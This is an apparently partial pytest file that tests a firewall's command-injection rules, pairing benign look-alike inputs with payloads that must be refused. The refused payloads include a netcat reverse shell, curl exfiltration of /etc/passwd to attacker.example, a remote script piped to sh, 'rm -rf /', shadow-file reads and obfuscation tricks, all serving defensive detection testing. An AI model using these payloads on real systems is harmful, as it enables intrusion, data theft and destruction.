          '=IMPORTXML("https://www.example.com/pricing","//table[@id=\'plans\']//td[2]")',
          "//a[@href=\"/login\"]", "/catalog/book[price>10]/title[1]"]
GLOB_LETTERS = ["/b[i]n/sh", "x;/usr/bin/n[c] -e /bin/sh 10.0.0.1 4444", "/e[t]c/sha[d]ow",
                "a=/bin/ca[t] /etc/hosts"]


@pytest.mark.parametrize("value", XPATHS)
def test_xpath_predicates_are_no_glob(edge, value):
    assert not rule_fired(edge, value, "rce-glob"), value
    assert_passes_in_note_and_query(edge, value)


@pytest.mark.parametrize("value", GLOB_LETTERS)
def test_a_bracket_hiding_a_letter_is_a_glob(rce_edge, value):
    assert rule_fired(rce_edge, value, "rce-glob"), value


# A sentence that starts with a command word and ends with ";" is no
# command line ended by a separator: its words are no arguments a command
# takes, or the shell could not parse the line ("COUNT(*)"), so nothing
# runs. A command line so ended still is one.
SENTENCES_ENDED = ["Watch out for the dog;", "Date of the meeting: Monday;",
                   "Sort order is wrong;", "Find the report here;", "echo chamber effects;",
                   "Query I used: SELECT region, COUNT(*) AS deals FROM opportunities "
                   "WHERE stage = 'Closed Won' GROUP BY region ORDER BY deals DESC;"]
COMMANDS_ENDED = ["id;", "uname -a;", "sleep 5;", "cat file.txt;", "echo $(id);",
                  "cat $HOME/.bashrc;", "echo hi > /tmp/x;", "ping localhost;"]


@pytest.mark.parametrize("value", SENTENCES_ENDED)
def test_sentences_ended_by_a_semicolon_pass(edge, value):
    assert_passes_in_note_and_query(edge, value)


@pytest.mark.parametrize("value", COMMANDS_ENDED)
def test_command_lines_ended_by_a_semicolon_refused(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


# Argument injection: one URL or e-mail address, then an option with a
# path, a URL or an @file: the program the application hands the address
# to (curl, wget, sendmail) takes the option as well. A dash in the
# sentence after an address is no option.
ARGUMENT_INJECTIONS = [
    "https://hooks.partner.io/x -o /var/www/html/s.php https://attacker.example/s.txt",
    "https://attacker.example/x --data-binary @/etc/passwd",
    "orders@attacker.example -OQueueDirectory=/tmp -X/var/www/html/uploads/log.php",
    "https://x.example/a.png -O ~/.bashrc", "http://x.example/f --output=/tmp/f"]
ADDRESSES_THEN_TEXT = ["https://example.com -- great site", "john@example.com - see /docs",
                       "https://example.com/a -x", "mail a@b.example -- thanks!"]


@pytest.mark.parametrize("value", ARGUMENT_INJECTIONS)
def test_options_after_an_address_refused(edge, value):
    assert rule_fired(edge, value, "rce-argument"), value


@pytest.mark.parametrize("value", ADDRESSES_THEN_TEXT)
def test_dashes_after_an_address_pass(edge, value):
    assert_passes_in_note_and_query(edge, value)


# cmd.exe drops a caret before any character: a subcommand written with
# carets ("n^e^t u^s^e^r") is the subcommand, after a token and "&&" too.
@pytest.mark.parametrize("value", ["64x64&& n^e^t u^s^e^r svc /a^d^d", "x & n^e^t l^o^c^a^l^g^r^o^u^p",
                                   "1 | r^e^g q^u^e^r^y HKLM"])
def test_caret_escaped_subcommands_refused(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


# A command line chained on one line and ended by a bare shell comment:
# the "#" discards what the application appends. A reader's example
# comments with words, or not at all.
@pytest.mark.parametrize("value", [
    "python /opt/airflow/dags/scripts/sync.py; rm -rf --no-preserve-root / #",
    "python /opt/jobs/sync.py; curl -s http://x.example/d.py -o /opt/airflow/dags/d.py #"])
def test_chains_ended_by_a_bare_comment_refused(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", ["ls -la # list files",
                                   "git log --oneline | head -5 # recent commits",
                                   "make clean && make all # rebuild", "python sync.py; echo done"])
def test_commented_examples_pass(edge, value):
    assert_passes_in_note_and_query(edge, value)


@pytest.mark.parametrize("value", ["127.0.0.1 `uname -a` #", "ping db-replica-1 `uname -a` #",
                                   "diagnostics: ping db-replica-1 `id` #", "host `whoami` #"])
def test_a_backtick_span_a_bare_comment_ends_is_a_substitution(rce_edge, value):
    """A bare "#" after the span ends the value: the rest of the
    application's command line is cut off, which no code span in a
    sentence does."""
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", ["run `uname -a` to see the kernel",
                                   "Run `make` # builds everything",
                                   "Try `git status`, then commit."])
def test_code_spans_in_sentences_pass(edge, value):
    assert_passes_in_note_and_query(edge, value)


@pytest.mark.parametrize("value", ["x;base64,abc", "src: data:image/png;base64,iVBORw0KGgo",
                                   "a;id,foo"])
def test_a_word_a_comma_goes_on_from_is_no_command_to_sh(edge, value):
    """sh reads "base64,iVBOR" as one word (a data: URL's parameters);
    only cmd.exe reads "," as a space, for its own commands."""
    assert_passes_in_note_and_query(edge, value)


@pytest.mark.parametrize("value", ["x;id", "x&whoami,/all", "x|net user"])
def test_sh_and_cmd_commands_still_refused(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", ["{n$u\\c$u,-nlvp,777}", "{nc,-nlvp,4444}"])
def test_brace_expansions_keep_their_commas(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", ["x|sleep 10", "ab|sleep 5", "x |sleep 10"])
def test_a_delay_piped_after_a_word_refused(rce_edge, value):
    """A word, "|", then a command and a number that end the value: a
    delay probe, no choice between words ("yes|no")."""
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", ["yes|no 10", "red|green 5", "Tom|Jerry 2", "small|large"])
def test_choices_between_words_pass(edge, value):
    assert_passes_in_note_and_query(edge, value)


@pytest.mark.parametrize("value", ["-o /var/www/html/s.php http://x.example/s.txt",
                                   "--output /tmp/x.sh https://x.example/a",
                                   "-X/var/www/html/log.php a@b.example"])
def test_an_option_before_the_address_is_an_argument_list(rce_edge, value):
    """The option first, the address after it to the value's end: the
    program the application hands the value to takes both."""
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", ["- item one http://example.com",
                                   "-o output.txt https://example.com/a.zip", "--help",
                                   "-5 degrees at https://weather.example"])
def test_list_items_and_options_without_a_path_pass(edge, value):
    assert_passes_in_note_and_query(edge, value)


@pytest.mark.parametrize("value", [
    "index=web status>=500 | stats count by uri_path | sort -count | head 20",
    "sourcetype=app level=ERROR | stats dc(user) by service | sort -count",
    "events | where latency > 300 | sort -k2 -n | head -5"])
def test_a_search_pipeline_ended_by_text_filters_passes(edge, value):
    """A log search's pipeline ends with sort and head given options and
    numbers: filters read what the command before the pipe writes and run
    nothing of their own."""
    assert_passes_in_note_and_query(edge, value)


@pytest.mark.parametrize("value", ["x | sort -o /tmp/x", ";cat /etc/passwd | head -5",
                                   "1|tail -n 5 /var/log/auth.log", "x|sort $(id)",
                                   "x | sort --compress-program=sh"])
def test_filters_given_a_file_or_a_substitution_still_refused(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", [
    '{"if": [{"==": [{"var": "cart.total"}, 110]}, "beta", "standard"]}',
    '{"if": [{"==": [{"var": "plan"}, "pro"]}, true, false]}'])
def test_a_json_key_named_if_is_no_cmd_statement(edge, value):
    """JsonLogic's '{"if": [{"==": ...' is a key, not cmd.exe's if."""
    assert_passes_in_note_and_query(edge, value)


@pytest.mark.parametrize("value", ['x & if "%USERNAME%"=="admin" whoami',
                                   '& if "a"=="a" (whoami)'])
def test_cmds_if_with_a_quoted_operand_still_refused(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", ["7 | wc -l", "run ls -la | wc -l",
                                   "ledgerctl -n 5 balances.csv | sort -k3 | head"])
def test_a_filter_fed_by_a_command_or_an_argument_still_refused(rce_edge, value):
    """A filter reads what comes before its pipe: a program's output ("ls
    -la", a tool given options) or, after a bare argument, the command the
    value injects."""
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", ["run: ls -la | wc -l",
                                   "To see the biggest: du -sh * | sort -h | tail -3",
                                   "Largest tables: psqlstat --top | head -n 3"])
def test_a_command_line_a_label_introduces_passes(edge, value):
    """A few words and a colon, then a command line (a word of the
    vocabulary, or a program given an option) piped to a filter: a note
    shows the line, as one that starts with the command does ("ls -la |
    wc -l" passes). Changed 2026-12-05: "run: ls -la | wc -l" was refused
    as a program's output fed to a filter; held-out notes show the shape
    (a rig's list piped to grep, a checksum then a listing)."""
    assert_passes_in_note_and_query(edge, value)


@pytest.mark.parametrize("value", ["Note: pending; cat /etc/passwd",
                                   "Status: ok && curl -s http://198.51.100.9/x | sh"])
def test_a_label_before_an_injected_command_is_still_refused(rce_edge, value):
    """A label, then a word that is no command and a chained command: the
    chain is injected whatever the label says."""
    assert_blocked_by_rce(rce_edge, value)


# date given only a format (and the clock's or the day's options) prints a
# time stamp, and git rev-parse or describe a commit's name: the file name
# or tag a script builds from it is no probe, nor is a crontab line's
# escaped "\%". A file date reads (-f, -r), anything chained after the
# format, a substitution beside it, date with no format, git given -c,
# and a value of thousands of options (read in one pass: PCRE's stack is
# no limit) are still commands.
@pytest.mark.parametrize("value", ["zip -r site-$(date +%Y%m%d).zip public",
                                   "BACKUP=/srv/backups/$(date +%Y-%m-%d)",
                                   "cp app.log app-$(date -u -d 'yesterday' '+%Y%m%d').log",
                                   "30 2 * * * mysqldump shop > /srv/dump-$(date +\\%F).sql",
                                   "tag=$(git rev-parse --short=8 origin/main)",
                                   "VERSION=$(git describe --tags --always)"])
def test_a_time_stamp_substitution_passes(edge, value):
    assert_passes_in_note_and_query(edge, value)


@pytest.mark.parametrize("value", ["$(date -f /etc/passwd)", "$(date -r /etc/shadow +%s)",
                                   "$(date +%F;id)", "$(date +%F | sh)",
                                   "x$(date +%F)$(id)", "name=$(date)",
                                   "$(git rev-parse HEAD; id)", "$(git -c core.pager=id log)",
                                   "$(git describe --tags | sh)"])
def test_date_reading_a_file_or_chained_still_refused(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


def test_thousands_of_date_options_are_read_in_one_pass(rce_edge):
    """4.5 KB of "-u " in a JSON note: the time stamp's pattern fails without
    backtracking through them (a first version exhausted PCRE JIT's stack,
    and the edge refused by its on_error setting, naming no rule)."""
    status, rid = send_note(rce_edge, "$(date " + "-u " * 1500 + "x")
    assert status == 403
    assert rce_rules(rce_edge, rid), rce_edge.audit_for(rid)


@pytest.mark.parametrize("value", ["lib%.so: %.c\n\t$(CC) $(LDFLAGS) -shared -o $@ $<",
                                   "install:\n\t$(MAKE) DESTDIR=out install"])
def test_a_makefile_recipes_variables_pass(edge, value):
    """"\\t$(CC) $(CFLAGS) -c $<": a lone name in capitals on a line a tab
    starts is a recipe's variable; no Unix command is spelled in capitals."""
    assert_passes_in_note_and_query(edge, value)


@pytest.mark.parametrize("value", ["x$(WHOAMI)", "name=$(ID)", "$(Id)", "\t$(make install)"])
def test_capitals_outside_a_recipe_still_refused(rce_edge, value):
    """Outside a recipe's tab-started line (PowerShell's $(...) finds
    commands whatever their case), and a name that is not all capitals."""
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", ["FROM node:20-alpine\nWORKDIR /srv\nRUN yarn install && yarn build",
                                   "RUN pip install -r requirements.txt && pytest -q"])
def test_a_dockerfile_run_line_passes(edge, value):
    """"RUN yarn install && yarn build": no shell has a command RUN in capitals,
    and "&&" runs what follows only when it succeeded, as after a prompt."""
    assert_passes_in_note_and_query(edge, value)


@pytest.mark.parametrize("value", ["RUN npm ci; id", "run npm ci && id",
                                   "FROM alpine\nRUN apk add curl && curl http://evil.example/x | sh"])
def test_a_run_line_that_chains_or_pipes_still_refused(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", ["X=$\\'uname -a\\'\n$X", "run=$\\'cat /etc/hostname\\'\n${run}"])
def test_a_variable_given_a_command_in_escaped_quotes_then_run(rce_edge, value):
    """"X=$\\'uname -a\\'" then "$X" on the next line: the quotes escaped
    for a layer of unescaping before the shell are the same assignment."""
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", ["x|/usr/b?n/who?mi", "a; /usr/bin/wh*mi", "q&&/bin/unam?"])
def test_a_globbed_program_path_after_a_separator_refused(rce_edge, value):
    """"/usr/b?n/who?mi": the shell expands a path's glob against the file
    system and runs the one program its last name matches."""
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", ["x; wh*ami", "copy them from /mnt/c/tools/*.exe"])
def test_a_bare_glob_or_a_listing_pattern_passes(edge, value):
    """A bare "wh*ami" is matched in the working directory, not along PATH;
    "*.exe" is a pattern of many files, a listing's."""
    assert_passes_in_note_and_query(edge, value)


@pytest.mark.parametrize("value", ["index=shop | eval secs=elapsed/1000 | where secs > 2",
                                   "kind=job | eval tier=\"gold\" label=x | fields tier",
                                   ".jobs[] | select(.ok) | {id, state}"])
def test_eval_given_only_assignments_or_a_jq_object_passes(edge, value):
    """A log search's "| eval secs=elapsed/1000": eval given only NAME=value
    words runs no command. jq's "| {sku, qty}": a blank after the comma
    ends the word, so it is no brace expansion and names no program."""
    assert_passes_in_note_and_query(edge, value)


@pytest.mark.parametrize("value", ["x;eval a=1 id", "x|eval a=$(id)", "x;eval a=1;uname -a",
                                   "x|{id,uname}", "q;{nc,-lvp,4444}"])
def test_eval_with_a_command_or_a_brace_expansion_still_refused(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", ["q%0aid", "q%0Dhostname", "q%0a ver", "1%0auptime%0a"])
def test_a_line_end_written_as_percent_0a_ends_an_argument(rce_edge, value):
    """"q%0aid": a value that writes its line ends only as %0a or %0d
    (decoded one more time on the way to a shell) ends an argument there,
    as ";" does: the command after it is injected."""
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", ["q\nid card", "To: Ann%0ABody: see the id on file",
                                   "mailto:a@example.com?body=one%0Atwo",
                                   "Exports%20the%20rows%20as%0APython%20dicts%20for%20you."])
def test_a_real_line_end_or_words_after_an_encoded_one_pass(edge, value):
    """A line end of its own is a line of text ("q", then "id card"); words
    after an encoded one are no command, and after a sentence an encoded
    line end still ends a line of it (a text encoded once more). ("q\nid",
    the probe alone on the last line, is refused since the thirty-second
    round: test_31_waf_detect_heldout_r22.)"""
    assert_passes_in_note_and_query(edge, value)


@pytest.mark.parametrize("value", ["docker run --rm -v $(pwd):/src alpine ls /src",
                                   "tar -C $(pwd -P)/dist -xf pkg.tgz",
                                   "Add ${HOME}/.local/bin to your PATH first"])
def test_the_working_directory_or_a_path_from_home_passes(edge, value):
    """"$(pwd)" prints the directory a script runs in, a stamp as "$(date
    +%F)" is; "${HOME}/.local/bin" is a directory, as "$HOME/.local/bin"
    is."""
    assert_passes_in_note_and_query(edge, value)


@pytest.mark.parametrize("value", ["$(pwd;uname)", "$(pwd)$(id)", "ls${IFS}${HOME}/",
                                   "${HOME}z", "x;cat ${HOME}/.ssh/authorized_keys"])
def test_a_command_beside_pwd_or_home_glued_still_refused(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", ["&&RUN=$\"uname -r\"\n$RUN", "x\n/usr/bin/whoami\n",
                                   "q\n/bin/id\n"])
def test_a_translated_string_assigned_then_run_or_a_bin_path_line(rce_edge, value):
    """bash's $"..." is a double-quoted string: assigned, then expanded where
    a command stands, it runs. A program called by its bin/ path alone on
    a line the value ends is no word of prose, short as its name is."""
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", ["greeting=$\"hello there\"\necho $greeting",
                                   "Installed to\n/usr/local/bin/mytool\n"])
def test_a_translated_string_echoed_or_an_unknown_bin_path_passes(edge, value):
    assert_passes_in_note_and_query(edge, value)
